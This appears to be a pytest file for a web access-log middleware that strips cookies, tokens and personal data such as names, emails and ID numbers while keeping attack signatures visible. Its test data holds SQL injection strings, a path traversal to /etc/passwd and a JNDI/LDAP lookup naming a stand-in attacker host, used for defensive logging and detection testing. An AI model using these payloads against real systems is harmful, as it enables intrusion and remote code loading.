"""Each request leaves a line with nothing in it that is a person's, and everything that an attack is known by."""

import json
import time
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import psycopg
import pytest
from django.db import ProgrammingError
from django.http import HttpRequest, HttpResponse
from hypothesis import given
from hypothesis import strategies as st

from senim.doors.access import VIOLATION, Noted
from senim.doors.shape import Shape
from senim.doors.violations import Violations
from senim.kit.journal import Journal
from senim.telemetry import parsers
from senim.telemetry.frames import Line

SHAPE = Shape(["incidents", "kk", "q", "page", "sign"])
MARKER = "exercise-0123456789abcdef"


def answer_with(
    body: Iterable[bytes] = (b"one", b"two"), status: str = "200 OK", **environment: str
) -> Callable[[dict[str, Any], Callable[..., Any]], Iterable[bytes]]:
    def application(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
        environ |= environment
        start_response(status, [("Named", "77")])
        return body

    return application


def request(**more: str) -> dict[str, Any]:
    return {
        "REMOTE_ADDR": "192.0.2.7", "REQUEST_METHOD": "GET", "PATH_INFO": "/kk/incidents/", "QUERY_STRING": "",
        "HTTP_USER_AGENT": "Mozilla/5.0", "HTTP_COOKIE": "session=secret", "HTTP_AUTHORIZATION": "Bearer secret",
        **more,
    }  # fmt: skip


class Door:
    """An application behind its log."""

    def __init__(self, folder: Path, application: Any) -> None:
        self.log = folder / "access.jsonl"
        self.answers = Noted(application, Journal(self.log), "console", SHAPE, named_in="Named")

    def ask(self, **more: str) -> bytes:
        answer = self.answers(request(**more), lambda *_: None)
        body = b"".join(answer)
        answer.close()  # type: ignore[attr-defined]
        return body

    def line(self) -> dict[str, Any]:
        (line,) = self.log.read_bytes().splitlines()
        found: dict[str, Any] = json.loads(line)
        return found


@pytest.mark.clause("R228/81-2")
class TestNoted:
    """One line a request."""

    def test_it_says_what_was_asked_and_what_was_answered(self, tmp_path: Path) -> None:
        door = Door(tmp_path, answer_with())
        assert door.ask() == b"onetwo"
        line = door.line()
        told = {name: line[name] for name in ("door", "src", "method", "path", "query", "status", "bytes", "id")}
        assert told == {
            "door": "console", "src": "192.0.2.7", "method": "GET", "path": "/kk/incidents/", "query": "",
            "status": 200, "bytes": 6, "id": "77",
        }  # fmt: skip

    def test_the_parser_reads_it(self, tmp_path: Path) -> None:
        door = Door(tmp_path, answer_with(**{VIOLATION: "database-syntax"}))
        door.ask(QUERY_STRING="q=%27%20or%201=1--%20-")
        seen = parsers.parse("door", Line(1, time.time(), door.log.read_bytes().strip()), "web-1")
        assert seen.fields["uri_plain"] == "/kk/incidents/?q=' or 1=1-- -"
        assert seen.fields["violation"] == "database-syntax"
        assert "time_flaw" not in seen.fields

    @pytest.mark.refusal
    def test_neither_cookies_nor_tokens_stand_in_it(self, tmp_path: Path) -> None:
        door = Door(tmp_path, answer_with())
        door.ask()
        assert b"secret" not in door.log.read_bytes()

    def test_an_application_that_fails_is_noted_as_failed(self, tmp_path: Path) -> None:
        def fails(*_: object) -> Iterable[bytes]:
            raise RuntimeError("broken")

        door = Door(tmp_path, fails)
        with pytest.raises(RuntimeError):
            door.ask()
        assert door.line()["status"] == 500

    def test_an_answer_that_nobody_waited_for_is_noted_with_what_left(self, tmp_path: Path) -> None:
        door = Door(tmp_path, answer_with(iter([b"one", b"two"])))
        answer = iter(door.answers(request(), lambda *_: None))
        next(answer)
        answer.close()  # type: ignore[attr-defined]
        assert door.line()["bytes"] == 3

    def test_a_log_without_room_keeps_nobody_outside_and_is_told_once(
        self, tmp_path: Path, caplog: pytest.LogCaptureFixture
    ) -> None:
        door = Door(tmp_path / "missing", answer_with())
        assert [door.ask(), door.ask()] == [b"onetwo", b"onetwo"]
        assert [record.message for record in caplog.records if "not noted" in record.message] != []
        assert len([record for record in caplog.records if "not noted" in record.message]) == 1

    @given(path=st.text(max_size=50), query=st.text(max_size=50), agent=st.text(max_size=50))
    def test_whatever_is_asked_it_is_one_line_of_json(
        self, tmp_path_factory: pytest.TempPathFactory, path: str, query: str, agent: str
    ) -> None:
        door = Door(tmp_path_factory.mktemp("door"), answer_with())
        door.ask(PATH_INFO=path, QUERY_STRING=query, HTTP_USER_AGENT=agent)
        assert door.line()["status"] == 200


class TestShape:
    """What names nobody stays; everything else is told by its shape."""

    @pytest.mark.parametrize(
        ("typed", "kept"),
        [
            ("/kk/incidents/", "/kk/incidents/"),
            ("q=Айгерім", "q=x"),
            ("q=" + quote("Айгерім Нұрланова"), "q=x%20x"),
            ("q=aigerim@ulgi.kz", "q=x@x.x"),
            ("q=900101300123", "q=000000000000"),
            ("page=1234", "page=1234"),
            ("page=12345", "page=00000"),
            ("q=' OR 1=1-- -", "q='%20OR%201=1--%20-"),
            ("q=%2527%2520UNION%2520SELECT%2520password", "q='%20UNION%20SELECT%20x"),
            ("/../../etc/passwd", "/../../etc/passwd"),
            ("q=${jndi:ldap://evil.example/a}", "q=${jndi:ldap://x.x/x}"),
            (f"/{MARKER}/x", f"/{MARKER}/x"),
            (f"/x{MARKER}/x", "/x-x/x"),
            ("/incidents/0198f3c2-5a10-7c1e-9d0a-3b6f0c9a1004/", "/incidents/0198f3c2-5a10-7c1e-9d0a-3b6f0c9a1004/"),
            ("q=50%", "q=50%25"),
        ],
    )
    def test_examples(self, typed: str, kept: str) -> None:
        assert SHAPE.of(typed) == kept

    @pytest.mark.clause("R228/81-20(1)")
    @pytest.mark.refusal
    @given(st.text(alphabet=st.characters(categories=["Lu", "Ll", "Lo"], min_codepoint=0x400), min_size=1, max_size=20))
    def test_no_name_in_kazakh_or_russian_letters_is_kept(self, name: str) -> None:
        kept = SHAPE.of(f"q={quote(name)}")
        assert kept.isascii()
        assert set(kept.removeprefix("q=")) <= set("x%0123456789ABCDEF")


class TestViolations:
    """What the database refuses was not asked by our code."""

    @staticmethod
    def _noticed(cause: Exception) -> str:
        asked = HttpRequest()
        error = ProgrammingError("x")
        error.__cause__ = cause
        Violations(lambda _: HttpResponse()).process_exception(asked, error)
        return str(asked.META.get(VIOLATION, ""))

    @pytest.mark.parametrize(
        ("cause", "word"),
        [
            (psycopg.errors.SyntaxError(), "database-syntax"),
            (psycopg.errors.InsufficientPrivilege(), "database-right"),
            (psycopg.errors.UniqueViolation(), ""),
            (RuntimeError(), ""),
        ],
    )
    def test_by_its_code(self, cause: Exception, word: str) -> None:
        assert self._noticed(cause) == word

    def test_other_errors_are_none(self) -> None:
        asked = HttpRequest()
        Violations(lambda _: HttpResponse()).process_exception(asked, ValueError("syntax error"))
        assert VIOLATION not in asked.META
